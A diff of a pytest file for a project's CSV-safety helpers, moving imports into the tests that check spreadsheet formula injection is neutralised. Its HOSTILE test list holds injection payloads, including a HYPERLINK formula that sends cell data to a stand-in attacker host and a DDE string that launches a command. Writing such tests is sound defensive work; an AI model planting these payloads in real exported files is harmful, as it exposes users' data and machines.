@@ -9,7 +9,6 @@ import io
 import pandas as pd
 import pytest
 
-from collabsim.core.csvsafe import safe_cell, safe_frame
 from collabsim.experiment import job as job_module
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
@@ -18,10 +17,14 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!
 
 @pytest.mark.parametrize("text", HOSTILE)
 def test_formula_leading_text_is_quoted(text):
+    from collabsim.core.csvsafe import safe_cell
+
     assert safe_cell(text) == "'" + text
 
 
 def test_numbers_and_plain_text_are_left_alone():
+    from collabsim.core.csvsafe import safe_cell
+
     for value in (-0.5, 3, "-0.5", "1e-3", "-", "plain hypothesis", "", None, float("nan")):
         out = safe_cell(value)
         assert out is value or out == value or (out != out and value != value)
@@ -50,6 +53,8 @@ def test_kolab_report_csv_neutralises_predictions(tmp_path):
 
 
 def test_safe_frame_leaves_numeric_columns_untouched():
+    from collabsim.core.csvsafe import safe_frame
+
     frame = pd.DataFrame({"x": [-1.5, 2.0], "s": ["-x", "ok"]})
     out = safe_frame(frame)
     assert out["x"].tolist() == [-1.5, 2.0] and out["s"].tolist() == ["'-x", "ok"]
